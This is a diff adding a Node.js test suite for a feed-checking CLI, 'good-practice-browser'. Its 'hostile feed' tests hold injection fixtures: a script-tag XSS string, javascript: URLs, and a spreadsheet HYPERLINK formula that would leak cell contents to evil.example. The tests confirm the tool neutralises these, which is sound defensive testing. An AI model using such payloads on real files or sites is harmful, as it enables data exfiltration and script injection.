@@ -1,0 +1,531 @@
+// The built command, as people run it. `UPDATE=1 node --test test/built/cli/cli.test.mjs` writes what it says now into golden/: read it.
+// All of it is .txt, lest it be formatted.
+import assert from 'node:assert/strict';
+import {spawn, spawnSync} from 'node:child_process';
+import {existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync} from 'node:fs';
+import {createServer} from 'node:http';
+import {tmpdir} from 'node:os';
+import {join} from 'node:path';
+import {after, before, describe, it} from 'node:test';
+import fc from '../../support/fast-check.mjs';
+
+const main = 'dist/cli/main.js';
+const feeds = 'test/built/cli/feeds';
+const {NO_COLOR: _, ...env} = process.env;
+
+function run(args, input = '') {
+  const {status, stderr, stdout} = spawnSync(process.execPath, [main, ...args], {
+    encoding: 'utf8',
+    env,
+    input,
+    timeout: 60_000,
+  });
+  return {status, stderr, stdout};
+}
+
+/** Without blocking, for a server in this process. */
+async function runBeside(args) {
+  const child = spawn(process.execPath, [main, ...args], {env, stdio: ['ignore', 'pipe', 'pipe']});
+  const output = {stdout: '', stderr: ''};
+  for (const name of ['stdout', 'stderr']) child[name].setEncoding('utf8').on('data', (text) => (output[name] += text));
+  const status = await new Promise((resolve) => child.on('close', resolve));
+  return {status, ...output};
+}
+
+function assertGolden(name, text) {
+  const path = join('test/built/cli/golden', name);
+  if (process.env.UPDATE) writeFileSync(path, text);
+  assert.equal(text, readFileSync(path, 'utf8'));
+}
+
+describe('good-practice-browser check (E-11)', () => {
+  const golden = [
+    ['check-real.txt', ['check', 'demo/practices.json'], 1],
+    ['check-bare.txt', ['check', 'demo/bare.json'], 1],
+    ['check-ugly.txt', ['check', `${feeds}/ugly.json`], 1],
+    ['check-ugly.json.txt', ['check', `${feeds}/ugly.json`, '--json'], 1],
+    ['check-broken.txt', ['check', `${feeds}/broken.txt`], 2],
+    ['check-page.txt', ['check', 'demo/index.html'], 2],
+    ['check-sound.txt', ['check', `${feeds}/sound.json`], 0],
+    ['check-nothing.txt', ['check', 'nowhere.json'], 2],
+  ];
+  for (const [name, args, status] of golden)
+    it(`says what is in ${name}, and ends with ${status}`, () => {
+      const result = run(args);
+      assert.deepEqual({status: result.status, stderr: result.stderr}, {status, stderr: ''});
+      assertGolden(name, result.stdout);
+    });
+
+  it('says the same of what is piped in', () => {
+    const text = readFileSync(`${feeds}/ugly.json`, 'utf8');
+    const {status, stdout} = run(['check', '-'], text);
+    assert.equal(status, 1);
+    assert.equal(
+      stdout.replaceAll('standard input', `${feeds}/ugly.json`),
+      readFileSync('test/built/cli/golden/check-ugly.txt', 'utf8'),
+    );
+  });
+
+  it('lets so many warnings pass', () => {
+    assert.equal(run(['check', 'demo/practices.json', '--max-warnings', '3']).status, 0);
+    assert.equal(run(['check', 'demo/practices.json', '--max-warnings', '2']).status, 1);
+  });
+
+  it('has no colours in a pipe, and lets no feed drive the terminal', () => {
+    for (const extra of [[], ['--json']])
+      assert.ok(!run(['check', `${feeds}/ugly.json`, ...extra]).stdout.includes('\x1b'));
+  });
+
+  const script = spawnSync('script', ['--version']).status === 0;
+  const onTerminal = (variables) =>
+    spawnSync('script', ['-qec', `${process.execPath} ${main} check ${feeds}/ugly.json`, '/dev/null'], {
+      encoding: 'utf8',
+      env: {...env, TERM: 'xterm', ...variables},
+    }).stdout;
+  it('has colours on a terminal, unless NO_COLOR is set', {skip: !script && 'no script(1) here'}, () => {
+    assert.ok(onTerminal({}).includes('\x1b[31merror'));
+    assert.ok(!onTerminal({NO_COLOR: '1'}).includes('\x1b[31m'));
+  });
+
+  it('ends with a report, whatever the file', () => {
+    const folder = mkdtempSync(join(tmpdir(), 'feed-'));
+    const path = join(folder, 'feed');
+    fc.assert(
+      fc.property(
+        fc.uint8Array({maxLength: 200}),
+        fc.constantFrom('', '[{"title":"A"', '{"practices":[', '<?xml ', 'title;city\n'),
+        (bytes, start) => {
+          writeFileSync(path, Buffer.concat([Buffer.from(start), bytes]));
+          const {status, stderr, stdout} = run(['check', path, '--json']);
+          assert.ok([0, 1, 2].includes(status));
+          assert.equal(stderr, '');
+          assert.ok(Array.isArray(JSON.parse(stdout)[0].findings));
+        },
+      ),
+      {numRuns: 8},
+    );
+    rmSync(folder, {recursive: true});
+  });
+
+  describe('an address', () => {
+    const feed = readFileSync(`${feeds}/ugly.json`, 'utf8');
+    const answers = {'/feed.json': [200, feed], '/gone.json': [404, 'gone']};
+    /** Three pages of one practice each, the last of which names the first again; and any number of pages. */
+    const pageOf = (url) => {
+      const {pathname, searchParams} = new URL(url, 'http://city.example');
+      const page = Number(searchParams.get('page') ?? 1);
+      const practices = [{id: `p${page}`, title: `Practice ${page}`, city: 'Oslo', details: `details/${page}.json`}];
+      const next = `?page=${page + 1}`;
+      if (pathname === '/header.json')
+        return [200, JSON.stringify(practices), page < 3 ? {Link: `<${next}>; rel="next"`} : {}];
+      // the second page has a post of the first again
+      if (pathname === '/wp-json/wp/v2/posts') {
+        const posts = [page, page + 1].map((id) => ({id, slug: `p${id}`, title: {rendered: `Practice ${id}`}}));
+        const total = searchParams.get('orderby') === 'id' ? '3' : '4';
+        return [200, JSON.stringify(posts), {'X-WP-TotalPages': '2', 'X-WP-Total': total}];
+      }
+      if (pathname === '/circle.json')
+        return [200, JSON.stringify({practices, next_url: page < 3 ? next : '?', texts: 'texts.json'})];
+      if (pathname === '/gap.json') return page < 3 ? [200, JSON.stringify({practices, next_url: next})] : [503, ''];
+      return pathname === '/endless.json' ? [200, JSON.stringify({practices, next_url: next})] : undefined;
+    };
+    const texts = [1, 2, 3].map((i) => ({id: `p${i}`, sections: [{text: `All of practice ${i}.`}]}));
+    answers['/texts.json'] = [200, JSON.stringify(texts)];
+    let server;
+    let origin;
+    before(async () => {
+      server = createServer(({url}, response) => {
+        const [status, body, headers = {}] = answers[url] ?? pageOf(url) ?? [500, ''];
+        response.writeHead(status, headers).end(body);
+      });
+      await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
+      origin = `http://127.0.0.1:${server.address().port}`;
+    });
+    after(() => server.close());
+
+    it('is fetched', async () => {
+      const {status, stdout} = await runBeside(['check', `${origin}/feed.json`, '--json']);
+      const codesIn = (json) => JSON.parse(json).map(({findings}) => findings.map(({code}) => code));
+      assert.equal(status, 1);
+      assert.deepEqual(codesIn(stdout), codesIn(readFileSync('test/built/cli/golden/check-ugly.json.txt', 'utf8')));
+    });
+
+    for (const path of ['header.json', 'circle.json'])
+      it(`is checked with the pages that follow it: ${path}`, async () => {
+        const {stderr, stdout} = await runBeside(['check', `${origin}/${path}`, '--json']);
+        const reports = JSON.parse(stdout);
+        assert.deepEqual(
+          reports.map(({address, practices}) => [address.replace(/.*page=/, ''), practices]),
+          [
+            [`${origin}/${path}`, 1],
+            ['2', 1],
+            ['3', 1],
+            ...(path === 'circle.json' ? [[`${origin}/${path}?`, 1]] : []),
+          ],
+        );
+        assert.equal(stderr, '');
+        const inWords = await runBeside(['check', `${origin}/${path}`]);
+        assert.match(inWords.stdout, /\n[34] pages, [34] practices: \d+ notes\n$/);
+      });
+
+    it('of WordPress is checked for posts that are on none of its pages', async () => {
+      const check = async (query) => {
+        const {stdout} = await runBeside(['check', `${origin}/wp-json/wp/v2/posts${query}`, '--json']);
+        return JSON.parse(stdout).map(({findings}) =>
+          findings.filter(({code}) => code === 'missing-posts').map(({message, severity}) => [severity, message]),
+        );
+      };
+      assert.deepEqual(await check(''), [[], []]);
+      const [first, second] = await check('?orderby=date');
+      assert.deepEqual(first, []);
+      assert.equal(second.length, 1);
+      assert.equal(second[0][0], 'warning');
+      assert.match(second[0][1], /^1 post is missing from .*Write orderby=id in the address\.$/);
+    });
+
+    it('is checked as far as the widget reads', async () => {
+      const {stderr, stdout} = await runBeside(['check', `${origin}/endless.json`, '--json']);
+      assert.equal(JSON.parse(stdout).length, 20);
+      assert.match(stderr, /endless\.json\?page=21 and what follows it is not read/);
+    });
+
+    it('is converted with all its pages and texts', async () => {
+      const {stderr, stdout} = await runBeside(['convert', `${origin}/circle.json`, '--to', 'json']);
+      assert.equal(stderr, '');
+      assert.deepEqual(
+        JSON.parse(stdout).practices.map(({id, details, sections}) => [id, details, sections?.[0].text]),
+        [1, 2, 3].map((i) => [`p${i}`, undefined, `All of practice ${i}.`]),
+      );
+    });
+
+    it('is not converted by half', async () => {
+      for (const command of ['check', 'convert']) {
+        const {status, stderr, stdout} = await runBeside([command, `${origin}/gap.json`, '--to', 'json']);
+        assert.equal(status, 2);
+        assert.match(stdout + stderr, /page=3 was answered with HTTP status 503/);
+        if (command === 'convert') assert.equal(stdout, '');
+      }
+    });
+
+    it('that is not there, or has no server, cannot be read', async () => {
+      const gone = await runBeside(['check', `${origin}/gone.json`]);
+      assert.equal(gone.status, 2);
+      assert.match(gone.stdout, /HTTP status 404/);
+      const nobody = await runBeside(['check', 'http://127.0.0.1:1/feed.json']);
+      assert.equal(nobody.status, 2);
+      assert.match(nobody.stdout, /cannot be fetched/);
+      assert.ok(!nobody.stdout.includes('    at '));
+    });
+  });
+});
+
+describe('good-practice-browser convert', () => {
+  it('writes our own format, which reads as the feed did', () => {
+    const {status, stdout} = run(['convert', `${feeds}/sound.json`, '--to', 'json']);
+    assert.equal(status, 0);
+    assertGolden('convert-sound.json.txt', stdout);
+    assert.equal(run(['convert', '-', '--to', 'json'], stdout).stdout, stdout);
+  });
+
+  it('writes a table', () => {
+    const {status, stdout} = run(['convert', `${feeds}/sound.json`, '--to', 'csv']);
+    assert.equal(status, 0);
+    assertGolden('convert-sound.csv.txt', stdout);
+  });
+
+  it('writes into a file, and says so', () => {
+    const folder = mkdtempSync(join(tmpdir(), 'feed-'));
+    const path = join(folder, 'practices.csv');
+    const {status, stderr, stdout} = run(['convert', 'demo/practices.json', '--to', path]);
+    assert.deepEqual({status, stderr, stdout}, {status: 0, stderr: `${path}: 180 practices.\n`, stdout: ''});
+    assert.ok(readFileSync(path, 'utf8').startsWith('\uFEFF"id","title"'));
+    rmSync(folder, {recursive: true});
+  });
+
+  it('reads what other formats hold, its own tables too', () => {
+    const table = run(['convert', `${feeds}/sound.json`, '--to', 'csv']).stdout;
+    const {practices} = JSON.parse(run(['convert', '-', '--to', 'json'], table).stdout);
+    assert.deepEqual(
+      practices.map(({city, country, id, period, url}) => [id, city, country, period, url]),
+      [
+        ['semaine', 'Neuchâtel', 'CH', 'depuis 2014', 'pratiques/semaine.html?a=1&b=2'],
+        ['lyon-walk', 'Lyon', 'FR', '2015-2019', undefined],
+      ],
+    );
+    const asJson = run(['convert', '-', '--to', 'json', '--format', 'json'], table);
+    assert.equal(asJson.status, 2);
+  });
+
+  it('leaves relative addresses as they are, or lets them start from --base', () => {
+    const address = (...more) =>
+      JSON.parse(run(['convert', `${feeds}/sound.json`, '--to', 'json', ...more]).stdout).practices[0].url;
+    assert.equal(address(), 'pratiques/semaine.html?a=1&b=2');
+    assert.equal(
+      address('--base', 'https://city.example/data/feed.json'),
+      'https://city.example/data/pratiques/semaine.html?a=1&b=2',
+    );
+  });
+
+  it('writes a feed in parts, which the check finds sound', () => {
+    const folder = mkdtempSync(join(tmpdir(), 'gpb-split-'));
+    try {
+      const split = run(['convert', 'demo/practices.json', '--to', folder, '--split']);
+      assert.equal(split.status, 0);
+      assert.equal(
+        split.stderr.replace(folder, 'DIR'),
+        'DIR: feed.json with 180 practices, texts.json and 46 files in details.\n',
+      );
+      assert.equal(readdirSync(join(folder, 'details')).length, 46);
+      const {practices, texts} = JSON.parse(readFileSync(join(folder, 'feed.json'), 'utf8'));
+      assert.equal(texts, 'texts.json');
+      assert.equal(practices.filter(({details}) => details && existsSync(join(folder, details))).length, 46);
+      assert.ok(practices.every((practice) => !practice.sections));
+      const [{findings}] = JSON.parse(run(['check', join(folder, 'feed.json'), '--json']).stdout);
+      assert.deepEqual(
+        findings.filter(({severity}) => severity === 'error').map(({code}) => code),
+        [],
+      );
+    } finally {
+      rmSync(folder, {recursive: true});
+    }
+  });
+
+  it('leads nobody to another host: the check says so of a feed whose address is known', () => {
+    const feed = JSON.stringify([{title: 'A', details: 'https://other.example/a.json'}]);
+    const codes = (...more) =>
+      JSON.parse(run(['check', '-', '--json', ...more], feed).stdout)[0].findings.map(({code}) => code);
+    assert.equal(codes().includes('foreign-address'), false);
+    assert.ok(codes('--base', 'https://city.example/feed.json').includes('foreign-address'));
+  });
+
+  it('writes into each part what belongs there', () => {
+    const folder = mkdtempSync(join(tmpdir(), 'gpb-split-'));
+    try {
+      const practices = [
+        {id: 'A b', title: 'With a summary', summary: 'Short', sections: [{heading: 'Aim', text: 'Long'}]},
+        {
+          id: 'c',
+          title: 'Without',
+          city: 'Leeds',
+          country: 'GB',
+          sections: [{html: '<p>Rich <b>text</b></p>'}],
+          links: ['x.html'],
+        },
+        {id: 'd', title: 'All that there is', summary: 'Short'},
+      ];
+      const written = run(['convert', '-', '--to', folder, '--split'], JSON.stringify({language: 'en', practices}));
+      assert.equal(written.status, 0);
+      const details = readdirSync(join(folder, 'details')).map((name) => `details/${name}`);
+      const parts = ['feed.json', 'texts.json', ...details.sort()];
+      const read = (name) => `${name}\n${readFileSync(join(folder, name), 'utf8')}`;
+      assertGolden('convert-sound-split.txt', parts.map(read).join('\n'));
+    } finally {
+      rmSync(folder, {recursive: true});
+    }
+  });
+
+  it('says what it cannot read', () => {
+    const {status, stderr, stdout} = run(['convert', `${feeds}/broken.txt`, '--to', 'json']);
+    assert.deepEqual({status, stdout}, {status: 2, stdout: ''});
+    assert.match(stderr, /broken\.txt is not/);
+    assert.ok(!stderr.includes('    at '));
+  });
+});
+
+describe('good-practice-browser prerender (E-05, E-15)', () => {
+  it('writes a list and JSON-LD, in which nothing of the feed is markup', () => {
+    const {status, stdout} = run(['prerender', `${feeds}/sound.json`]);
+    assert.equal(status, 0);
+    assertGolden('prerender-sound.html.txt', stdout);
+    assert.equal(stdout.match(/<script/g).length, 1);
+    const list = JSON.parse(/<script type="application\/ld\+json">(.*)<\/script>/.exec(stdout)[1]);
+    assert.equal(list['@type'], 'ItemList');
+    assert.equal(list.numberOfItems, 2);
+    assert.equal(
+      list.itemListElement[0].item.name,
+      'La semaine <interculturelle> & </script><script>alert(1)</script>',
+    );
+  });
+
+  it('speaks the language that is asked for', () => {
+    assert.match(run(['prerender', `${feeds}/sound.json`]).stdout, /Neuchâtel, Suisse/);
+    assert.match(run(['prerender', `${feeds}/sound.json`, '--lang', 'en']).stdout, /Neuchâtel, Switzerland/);
+  });
+});
+
+describe('a hostile feed', () => {
+  const hostile = `${feeds}/hostile.json`;
+  const literal = 'https://feed.invalid/=HYPERLINK("https://evil.example/?x="&A1,"click")';
+  const dead = 'https://feed.invalid/javascript:alert(8)';
+  /** What its honest relative addresses become; `up` leads from where they are written to the feed. */
+  const linksFrom = (up) => [
+    `${up}pages/a.html?b=https://feed.invalid/#c`,
+    `${up}../other/a.html`,
+    '/top.html',
+    `${up || './'}12:30.html`,
+    `${up || './'}/evil.example/x`,
+    'https://city.example/x',
+    up || './',
+    'https://feed.invalid/x',
+  ];
+  const urlsOf = ({links = []}) => links.map(({url}) => url);
+
+  it('gets no script into the HTML, and no text is changed', () => {
+    const {stdout} = run(['prerender', hostile]);
+    const hrefs = [...stdout.matchAll(/href="([^"]*)"/g)].map(([, href]) => href);
+    assert.deepEqual(hrefs, [dead, '-1+2.html']);
+    assert.ok(stdout.includes('<b>A script after a dot</b>'));
+    assert.ok(stdout.includes('>https://feed.invalid/=HYPERLINK('));
+    assert.ok(stdout.includes('<p>https://feed.invalid/=1+1</p>'));
+  });
+
+  it('gets no script into the JSON-LD', () => {
+    const {stdout} = run(['prerender', hostile]);
+    const {itemListElement} = JSON.parse(/<script type="application\/ld\+json">(.*)<\/script>/.exec(stdout)[1]);
+    assert.deepEqual(
+      itemListElement.map(({item}) => [item.name, item.url, item.image]),
+      [
+        ['A script after a dot', undefined, undefined],
+        [literal, dead, undefined],
+        ['=1+1', undefined, undefined],
+        ['Honest addresses', '-1+2.html', 'images/a.png'],
+      ],
+    );
+  });
+
+  it('gets no script into our own format, and honest addresses stay relative', () => {
+    const {practices} = JSON.parse(run(['convert', hostile, '--to', 'json']).stdout);
+    const [script, formula, data, relative] = practices;
+    assert.deepEqual(script, {id: 'script', title: 'A script after a dot', city: 'Leeds'});
+    assert.deepEqual([formula.title, formula.summary, formula.url], [literal, 'https://feed.invalid/=1+1', dead]);
+    assert.deepEqual([data.url, data.sections[0].base], [undefined, undefined]);
+    assert.equal(relative.url, '-1+2.html');
+    assert.deepEqual(urlsOf(relative), linksFrom(''));
+    assert.equal(relative.image.src, 'images/a.png');
+    assert.deepEqual(relative.contact, {name: 'https://feed.invalid/', url: 'contact.html'});
+    assert.deepEqual(relative.sections, [{html: '<p>https://feed.invalid/</p>', base: 'hostile.json'}]);
+  });
+
+  it('gets no formula and no script into a table', () => {
+    const {stdout} = run(['convert', hostile, '--to', 'csv']);
+    assert.ok(stdout.includes(`"${literal.replaceAll('"', '""')}"`));
+    assert.ok(stdout.includes('"https://feed.invalid/=1+1"'));
+    assert.ok(stdout.includes(`"${dead}"`));
+    assert.ok(stdout.includes(`"'=1+1"`));
+    assert.ok(stdout.includes(`"'-1+2.html"`));
+    assert.doesNotMatch(stdout, /"\s*[=+@-]/);
+    assert.doesNotMatch(stdout.replaceAll(dead, ''), /javascript:|vbscript:|data:/);
+  });
+
+  it('gets no script into a feed in parts, whose addresses start from each part', () => {
+    const folder = mkdtempSync(join(tmpdir(), 'gpb-split-'));
+    try {
+      assert.equal(run(['convert', hostile, '--to', folder, '--split']).status, 0);
+      const read = (name) => JSON.parse(readFileSync(join(folder, name), 'utf8'));
+      assert.deepEqual(
+        read('feed.json').practices.map(({details, id, url}) => [id, url, details]),
+        [
+          ['script', undefined, undefined],
+          ['formula', dead, undefined],
+          ['data', undefined, 'details/data.json'],
+          ['relative', '-1+2.html', 'details/relative.json'],
+        ],
+      );
+      assert.deepEqual(urlsOf(read('texts.json').practices[1]), linksFrom(''));
+      const details = read('details/relative.json');
+      assert.deepEqual(urlsOf(details), linksFrom('../'));
+      assert.equal(details.url, '../-1+2.html');
+      assert.equal(details.sections[0].base, '../hostile.json');
+      assert.equal(read('details/data.json').url, undefined);
+      assert.equal(read('details/data.json').sections[0].base, undefined);
+    } finally {
+      rmSync(folder, {recursive: true});
+    }
+  });
+
+  it('finds no other meaning for its address and its texts where it is fetched', async () => {
+    const feed = JSON.stringify([
+      {id: 'a', title: 'https://feed.invalid/=1+1', url: 'https://feed.invalid/javascript:alert(1)', links: ['?b']},
+    ]);
+    const server = createServer((_, response) => response.end(feed));
+    await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
+    try {
+      const address = `http://127.0.0.1:${server.address().port}/https://feed.invalid/javascript:alert(2)`;
+      const json = await runBeside(['convert', address, '--to', 'json']);
+      const [{links, title, url}] = JSON.parse(json.stdout).practices;
+      assert.deepEqual(
+        [title, url, links],
+        ['https://feed.invalid/=1+1', 'https://feed.invalid/javascript:alert(1)', [{url: `${address}?b`}]],
+      );
+      const csv = await runBeside(['convert', address, '--to', 'csv']);
+      assert.ok(csv.stdout.includes('"https://feed.invalid/=1+1"'));
+      const html = await runBeside(['prerender', address]);
+      assert.match(html.stdout, /<a href="https:\/\/feed\.invalid\/javascript:alert\(1\)">/);
+      const report = await runBeside(['check', address]);
+      assert.ok(report.stdout.startsWith(address), report.stdout);
+    } finally {
+      server.close();
+    }
+  });
+
+  it('is read in the same way at every run, and from the place that --base names', () => {
+    const twins = JSON.stringify(['a', 'b'].map((name) => ({title: 'Twin', city: 'Leeds', url: `${name}.html`})));
+    const convert = () => run(['convert', '-', '--to', 'json'], twins).stdout;
+    assert.equal(new Set(JSON.parse(convert()).practices.map(({id}) => id)).size, 2);
+    assert.equal(convert(), convert());
+    const {stdout} = run(['convert', hostile, '--to', 'json', '--base', 'https://city.example/data/feed.json']);
+    assert.equal(JSON.parse(stdout).practices[3].links[1].url, 'https://city.example/other/a.html');
+  });
+
+  it('is called by its name in messages, whatever its texts say', () => {
+    const broken = '["https://feed.invalid/javascript:alert(1)", x]';
+    const {stderr} = run(['convert', '-', '--to', 'json'], broken);
+    assert.match(stderr, /^standard input is not, or not all of, the JSON of a feed\./);
+    const checked = run(['check', hostile]);
+    assert.doesNotMatch(checked.stdout, /[\da-f]{8}-[\da-f]{4}-/);
+  });
+});
+
+describe('good-practice-browser convert, where it cannot write', () => {
+  it('says which file, and what writes to the standard output', () => {
+    const path = join('nowhere', 'feed.csv');
+    const {status, stderr} = run(['convert', `${feeds}/sound.json`, '--to', path]);
+    assert.equal(status, 2);
+    assert.ok(stderr.startsWith(`${path} cannot be written: ENOENT`), stderr);
+    const dash = run(['convert', `${feeds}/sound.json`, '--to', '-']);
+    assert.equal(dash.status, 2);
+    assert.match(
+      dash.stderr,
+      /^--to needs a name that ends in \.json or \.csv; json or csv alone writes to the standard output\./,
+    );
+  });
+});
+
+describe('good-practice-browser', () => {
+  const {version} = JSON.parse(readFileSync('package.json', 'utf8'));
+  it('says what it does, and which version it is', () => {
+    const help = run(['--help']);
+    assert.equal(help.status, 0);
+    assertGolden('help.txt', help.stdout);
+    assert.deepEqual(run(['--version']), {status: 0, stderr: '', stdout: `${version}\n`});
+  });
+
+  const wrong = [
+    ['check', 'a', '--format', 'docx'],
+    [],
+    ['chekc', 'a.json'],
+    ['check'],
+    ['check', 'a', 'b'],
+    ['check', 'a', '--colour'],
+    ['check', 'a', '--max-warnings', 'few'],
+    ['convert', 'demo/bare.json'],
+    ['convert', 'demo/bare.json', '--split'],
+    ['convert', 'demo/bare.json', '--to', 'feed.xml'],
+  ];
+  for (const args of wrong)
+    it(`points to its help after ${JSON.stringify(args)}`, () => {
+      const {status, stderr, stdout} = run(args);
+      assert.deepEqual({status, stdout}, {status: 2, stdout: ''});
+      assert.match(stderr, /^.+\nSee good-practice-browser --help\.\n$/);
+    });
+});
